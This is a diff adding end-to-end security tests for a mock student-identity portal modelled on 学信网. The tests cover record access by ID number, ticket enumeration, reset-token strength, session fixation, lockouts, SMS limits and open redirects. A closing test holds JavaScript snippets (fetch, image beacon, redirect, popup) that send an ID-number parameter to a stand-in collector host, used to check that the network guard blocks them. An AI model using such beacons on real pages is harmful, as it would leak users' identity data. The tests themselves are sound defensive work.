@@ -1,0 +1,180 @@
+"""The mock behaves as a site holding students' identities must: no peeking, no guessing, no lingering sessions."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from playwright.sync_api import BrowserContext, Page, expect
+
+from e2e.actions import click
+from e2e.clock import SharedClock
+from e2e.flows import log_in, reach_phone_step
+from e2e.pages.devices import Phone, Webmail
+from e2e.pages.portal import ArchiveHomePage, LoginPage
+from e2e.pages.recovery import FindPasswordPage, ReviewPage, ReviewStatusPage
+from fixtures.images import id_card_photo, id_card_uploads
+from fixtures.personas import Persona, make_persona
+from fixtures.students import enrol, existing_account, second_email
+from mock_server import Site, urls
+from mock_server.hosts.account import TGC_COOKIE
+from mock_server.hosts.my import SESSION_COOKIE
+from mock_server.services.throttle import LOCKED_MESSAGE
+
+pytestmark = pytest.mark.security
+
+
+@pytest.fixture
+def classmate(site: Site, seed: int) -> Persona:
+    """Another student of the same school, enrolled, registered, with a review ticket filed."""
+    other = make_persona(seed + 1, site.state.clock.now().date())
+    enrol(site.state, other)
+    account = existing_account(site.state, other)
+    front, back = id_card_photo(other, "正面"), id_card_photo(other, "背面")
+    site.state.reviews.file(other.name, other.id_number, account.email, front, back, site.state.clock.now())
+    return other
+
+
+def test_records_page_shows_only_the_logged_in_students_record(
+    page: Page, student: Persona, classmate: Persona
+) -> None:
+    """Adding another student's ID number or name to the 学籍 address still shows one's own record."""
+    log_in(page, student.email, student.password)
+    page.goto(f"{urls.MY}/archive/xjarchive.action?sfzh={classmate.id_number}&xm={classmate.name}&id=1")
+    expect(page.get_by_role("table", name="学籍信息")).to_contain_text(student.name)
+    expect(page.get_by_text(classmate.id_number)).to_have_count(0)
+    expect(page.get_by_text(classmate.name, exact=True)).to_have_count(0)
+
+
+def test_changing_the_ticket_number_does_not_show_anothers_ticket(
+    page: Page, site: Site, student: Persona, classmate: Persona
+) -> None:
+    """Ticket numbers run in sequence: the next number with one's own ID number finds nothing."""
+    existing_account(site.state, student, second_email(student))
+    review = ReviewPage(page).open()
+    review.submit(student.name, student.id_number, student.email, **id_card_uploads(student))
+    mine = review.number.inner_text()
+    theirs = next(t.number for t in site.state.reviews.tickets.values() if t.id_number == classmate.id_number)
+    status = ReviewStatusPage(page).open(theirs, student.id_number)
+    expect(page.get_by_role("alert")).to_have_text("受理编号与身份证号不匹配，请核对后重新查询")
+    expect(status.status).to_have_count(0)
+    status.open(mine, student.id_number)
+    expect(status.status).to_contain_text("审核中")
+
+
+def test_reset_links_are_long_random_and_one_character_off_is_refused(
+    page: Page, context: BrowserContext, student: Persona
+) -> None:
+    """Two reset mails carry different links of at least 32 random characters; a link one character off is refused."""
+    mailbox = Webmail(context.new_page())
+    links = []
+    for _ in range(2):
+        page.goto(f"{urls.ACCOUNT}/account/password!retrive.action")
+        FindPasswordPage(page).send(student.email)
+        mailbox.open_inbox(student.email).open_mail("学信网密码重置邮件")
+        links.append(mailbox.link_address())
+    tokens = [link.rsplit("token=", 1)[1] for link in links]
+    assert tokens[0] != tokens[1] and all(re.fullmatch(r"[\w-]{32,}", token) for token in tokens)
+    page.goto(links[1][:-1] + ("B" if links[1].endswith("A") else "A"))
+    expect(page.get_by_role("alert")).to_have_text("密码重置链接无效，请核对邮件中的链接是否完整")
+
+
+def test_login_issues_a_new_session_and_a_planted_one_grants_nothing(
+    page: Page, context: BrowserContext, student: Persona
+) -> None:
+    """A session id planted in the browser before login is replaced by a fresh one, and opens nothing later."""
+    planted = "0" * 32
+    context.add_cookies([{"name": TGC_COOKIE, "value": planted, "url": urls.ACCOUNT}])
+    log_in(page, student.email, student.password)
+    issued = next(c["value"] for c in context.cookies(urls.ACCOUNT) if c["name"] == TGC_COOKIE)
+    assert issued != planted and len(issued) >= 32
+    context.clear_cookies()
+    context.add_cookies([
+        {"name": TGC_COOKIE, "value": planted, "url": urls.ACCOUNT},
+        {"name": SESSION_COOKIE, "value": planted, "url": urls.MY},
+    ])  # fmt: skip
+    page.goto(f"{urls.MY}/archive/index.action")
+    expect(LoginPage(page).heading).to_be_visible()
+
+
+def test_logout_ends_the_archive_session(page: Page, student: Persona) -> None:
+    """After 退出, going back to 学信档案 asks for login again."""
+    log_in(page, student.email, student.password)
+    click(page.get_by_role("link", name="退出"))
+    expect(LoginPage(page).heading).to_be_visible()
+    page.goto(f"{urls.MY}/archive/index.action")
+    expect(LoginPage(page).heading).to_be_visible()
+    expect(ArchiveHomePage(page).welcome).to_have_count(0)
+
+
+def test_five_wrong_passwords_lock_the_login_for_30_minutes(page: Page, student: Persona, clock: SharedClock) -> None:
+    """The fifth wrong password locks the name; even the right one is refused until 30 minutes pass."""
+    login = LoginPage(page).open()
+    for _ in range(4):
+        login.log_in(student.email, student.password + "x")
+        expect(login.status).to_have_text("您输入的用户名或密码有误。")
+    login.log_in(student.email, student.password + "x")
+    expect(login.status).to_have_text(LOCKED_MESSAGE)
+    login.log_in(student.email, student.password)
+    expect(login.status).to_have_text(LOCKED_MESSAGE)
+    clock.advance(minutes=30)
+    login.log_in(student.email, student.password)
+    expect(ArchiveHomePage(page).welcome).to_be_visible()
+
+
+def test_sms_codes_beyond_five_a_day_are_refused(page: Page, persona: Persona, clock: SharedClock) -> None:
+    """A sixth 校验码 within 24 hours is refused with the site's words; the next day one is sent."""
+    form = reach_phone_step(page, persona)
+    for _ in range(5):
+        form.request_code(persona.phone)
+        expect(form.sms_status).to_have_text(f"学信网已向 {persona.phone} 发送校验码，请查收")
+        clock.advance(seconds=61)
+    form.request_code(persona.phone)
+    expect(form.sms_status).to_have_text("短信发送次数已达到上限，请24小时后再试")
+    clock.advance(hours=24)
+    form.request_code(persona.phone)
+    expect(form.sms_status).to_have_text(f"学信网已向 {persona.phone} 发送校验码，请查收")
+
+
+def test_five_wrong_codes_void_the_sms_code(page: Page, context: BrowserContext, persona: Persona) -> None:
+    """After five wrong 校验码 even the right one is refused: six digits cannot be found by trying."""
+    form = reach_phone_step(page, persona)
+    form.request_code(persona.phone)
+    code = Phone(context.new_page()).open(persona.phone).latest_code()
+    wrong = f"{(int(code) + 1) % 10**6:06d}"
+    for _ in range(5):
+        form.enter_code(wrong)
+        expect(form.errors).to_have_text("校验码有误")
+    form.enter_code(code)
+    expect(form.errors).to_have_text("校验码错误次数过多，请重新获取")
+
+
+def test_login_never_sends_the_student_off_the_site(page: Page, site: Site, student: Persona) -> None:
+    """A login link whose service points elsewhere still lands on 学信档案, with the ticket kept on CHSI."""
+    page.goto(f"{urls.ACCOUNT}/passport/login?service=https://chsi.example.net/steal")
+    LoginPage(page).log_in(student.email, student.password)
+    expect(ArchiveHomePage(page).welcome).to_be_visible()
+    expect(page).to_have_url(re.compile(r"^https://my\.chsi\.com\.cn/"))
+    assert site.blocked == []
+
+
+# Every way a page can reach out: a script's request, a subresource, a navigation, a new window.
+LEAKS = {
+    "fetch": "fetch('https://collector.example.com/p?sfzh=1').catch(() => null)",
+    "image": "new Promise(done => { const i = new Image(); i.onerror = i.onload = done; i.src = 'https://collector.example.com/p.gif'; })",
+    "redirect": "location.replace('https://collector.example.com/landing')",
+    "popup": "void window.open('https://collector.example.com/popup')",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", list(LEAKS))
+def test_network_guard_blocks_and_names_every_way_out(
+    page: Page, context: BrowserContext, site: Site, kind: str
+) -> None:
+    """Whichever way a page tries to reach a real host, the request is aborted and recorded with its URL."""
+    page.goto(f"{urls.WWW}/")
+    with context.expect_event("requestfailed", lambda request: "collector.example.com" in request.url) as failed:
+        page.evaluate(LEAKS[kind])
+    assert (failed.value.failure or "").startswith("net::ERR_BLOCKED_BY_CLIENT")
+    assert [b for b in site.blocked if "collector.example.com" in b] == [f"GET {failed.value.url}"]
+    site.blocked.clear()  # recorded as it should be; the fixture would otherwise fail this test
